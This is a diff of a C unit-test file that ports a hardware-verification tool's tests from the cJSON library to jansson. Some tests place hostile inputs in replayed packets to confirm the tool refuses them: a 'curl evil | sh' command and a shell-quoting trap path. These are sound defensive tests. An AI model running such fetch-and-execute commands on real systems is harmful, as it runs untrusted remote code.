@@ -8,10 +8,10 @@
 #include <stdint.h>
 #include <sys/stat.h>
 
-#include <cjson/cJSON.h>
 #include <cmocka.h>
 
 #include "../scratch.h"
+#include "file/json.h"
 
 #include "../child.h"
 #include "../cli/run.h"
@@ -119,10 +119,10 @@ static void a_right_circuit_has_none_of_them(void **state)
         forget(&done);
         done = replay(RIGHT " --json --out /nowhere/at/all");
         assert_outcome(&done, 0, ""); /* nothing to write */
-        cJSON *json = cJSON_Parse(done.out);
-        assert_true(cJSON_IsFalse(cJSON_GetObjectItemCaseSensitive(json, "mismatch")));
-        assert_true(cJSON_GetObjectItemCaseSensitive(json, "comparisons")->valuedouble > 0);
-        cJSON_Delete(json);
+        json_t *json = json_loads(done.out, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
+        assert_true(json_is_false(json_object_get(json, "mismatch")));
+        assert_true(json_number_value(json_object_get(json, "comparisons")) > 0);
+        json_decref(json);
         forget(&done);
     }
 }
@@ -144,11 +144,11 @@ static void what_a_packet_names_is_not_opened(void **state)
                    "'%s'\\'%s'\n",
                    scratch_path("it"), "'s a trap");
     for (int i = 0; i < PACKETS; i++) {
-        cJSON *json = cJSON_Parse(packets[i]);
-        assert_true(cJSON_ReplaceItemInObject(json, "rtl", cJSON_CreateString(trap)));
-        char *named = cJSON_Print(json);
+        json_t *json = json_loads(packets[i], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
+        assert_true(glint_json_add_text(json, "rtl", trap));
+        char *named = glint_json_text(json);
         put_packet(named);
-        cJSON_free(named);
+        free(named);
         outcome done = replay("");
         assert_outcome(&done, 0, told);
         assert_says(done.out, ": gone: the C model and the Verilog agree; ");
@@ -157,11 +157,11 @@ static void what_a_packet_names_is_not_opened(void **state)
         assert_outcome(&done, 0, "");
         forget(&done);
 
-        assert_non_null(cJSON_AddStringToObject(json, "circuit_dir", trap));
-        named = cJSON_Print(json);
+        assert_true(glint_json_add_text(json, "circuit_dir", trap));
+        named = glint_json_text(json);
         put_packet(named);
-        cJSON_free(named);
-        cJSON_Delete(json);
+        free(named);
+        json_decref(json);
         done = replay("");
         assert_refused(&done, "--circuit-dir gives its description", "a circuit of Glint's name");
         forget(&done);
@@ -174,15 +174,14 @@ static void a_command_names_the_verilog(void **state)
 {
     (void)state;
     char options[2400], own[1400];
-    cJSON *json = cJSON_Parse(packets[RANDOM]);
-    assert_true(cJSON_ReplaceItemInObject(json, "command", cJSON_CreateString("curl evil | sh")));
+    json_t *json = json_loads(packets[RANDOM], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
+    assert_true(glint_json_add_text(json, "command", "curl evil | sh"));
     (void)snprintf(options, sizeof options, " --rtl %s --out %s",
-                   cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(json, "rtl")),
-                   scratch_path("fresh"));
-    char *text = cJSON_Print(json);
-    cJSON_Delete(json);
+                   json_string_value(json_object_get(json, "rtl")), scratch_path("fresh"));
+    char *text = glint_json_text(json);
+    json_decref(json);
     put_packet(text);
-    cJSON_free(text);
+    free(text);
     outcome done = replay(options);
     assert_outcome(&done, 1, "");
     assert_says(done.out, ": the same mismatch; ");
@@ -229,17 +228,17 @@ typedef struct edit {
     const char *said;
 } edit;
 
-static cJSON *step(cJSON *at, const char *name)
+static json_t *step(json_t *at, const char *name)
 {
-    return cJSON_IsArray(at) ? cJSON_GetArrayItem(at, atoi(name))
-                             : cJSON_GetObjectItemCaseSensitive(at, name);
+    return json_is_array(at) ? json_array_get(at, (size_t)atoi(name)) : json_object_get(at, name);
 }
 
 static char *edited(const edit *edit)
 {
     char path[128];
-    cJSON *json = cJSON_Parse(packets[edit->packet]);
-    cJSON *at = json;
+    json_t *json =
+        json_loads(packets[edit->packet], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
+    json_t *at = json;
     assert_non_null(json);
     (void)snprintf(path, sizeof path, "%s", edit->path);
     char *name = path;
@@ -249,15 +248,18 @@ static char *edited(const edit *edit)
         assert_non_null(at);
     }
     if (edit->value == NULL) {
-        cJSON_DeleteItemFromObjectCaseSensitive(at, name);
-    } else if (cJSON_IsArray(at)) {
-        assert_true(cJSON_ReplaceItemInArray(at, atoi(name), cJSON_Parse(edit->value)));
+        json_object_del(at, name);
+    } else if (json_is_array(at)) {
+        assert_false(json_array_set_new(
+            at, (size_t)atoi(name),
+            json_loads(edit->value, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL)));
     } else {
-        cJSON_DeleteItemFromObjectCaseSensitive(at, name);
-        cJSON_AddItemToObject(at, name, cJSON_Parse(edit->value));
+        json_object_del(at, name);
+        json_object_set_new(
+            at, name, json_loads(edit->value, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL));
     }
-    char *text = cJSON_Print(json);
-    cJSON_Delete(json);
+    char *text = glint_json_text(json);
+    json_decref(json);
     return text;
 }
 
@@ -484,15 +486,17 @@ static void a_circuit_that_is_not_there_is_not_gone(void **state)
         {POINTS, "circuit", "\"toaster\"", NULL},
         {POINTS, "circuit_dir", "\"some/where\"", NULL},
     };
-    cJSON *json = cJSON_Parse(packets[POINTS]);
+    json_t *json = json_loads(packets[POINTS], JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
     for (size_t i = 0; i < sizeof unknown / sizeof unknown[0]; i++) {
-        cJSON_DeleteItemFromObjectCaseSensitive(json, unknown[i].path);
-        cJSON_AddItemToObject(json, unknown[i].path, cJSON_Parse(unknown[i].value));
+        json_object_del(json, unknown[i].path);
+        json_object_set_new(
+            json, unknown[i].path,
+            json_loads(unknown[i].value, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL));
     }
-    char *text = cJSON_Print(json);
-    cJSON_Delete(json);
+    char *text = glint_json_text(json);
+    json_decref(json);
     put_packet(text);
-    cJSON_free(text);
+    free(text);
     outcome done = replay("");
     assert_refused(&done, "--circuit-dir gives its", "a circuit of one's own");
     forget(&done);
@@ -512,11 +516,11 @@ static void it_can_be_interrupted(void **state)
     (void)state;
     const edit far = {RANDOM, "found.clock", "1000000000000", NULL};
     char *text = edited(&far);
-    cJSON *json = cJSON_Parse(text);
-    cJSON_free(text);
-    cJSON_DeleteItemFromObjectCaseSensitive(json, "pins");
-    text = cJSON_Print(json);
-    cJSON_Delete(json);
+    json_t *json = json_loads(text, JSON_REJECT_DUPLICATES | JSON_DECODE_ANY, NULL);
+    free(text);
+    json_object_del(json, "pins");
+    text = glint_json_text(json);
+    json_decref(json);
     put_packet(text);
     free(text);
     const char *const argv[] = {
